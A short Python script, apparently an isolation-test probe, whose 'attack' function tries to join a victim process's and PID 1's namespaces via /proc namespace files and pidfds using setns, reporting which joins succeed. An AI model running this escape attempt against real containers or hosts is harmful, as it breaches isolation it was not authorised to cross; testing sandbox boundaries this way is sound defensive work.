"""Enter another process's namespaces, by the files of /proc and by a pidfd."""
import ctypes
import os

KINDS = {"uts": 0x04000000, "ipc": 0x08000000, "net": 0x40000000, "cgroup": 0x02000000, "pid": 0x20000000,
         "mnt": 0x00020000}


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    joined = []
    for pid in (target["victim_pid"], 1):
        for kind, flag in KINDS.items():
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(fd, flag) == 0:
                joined.append([pid, kind])
            os.close(fd)
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            continue
        joined += [[pid, "pidfd", kind] for kind, flag in KINDS.items() if libc.setns(pidfd, flag) == 0]
        os.close(pidfd)
    return joined
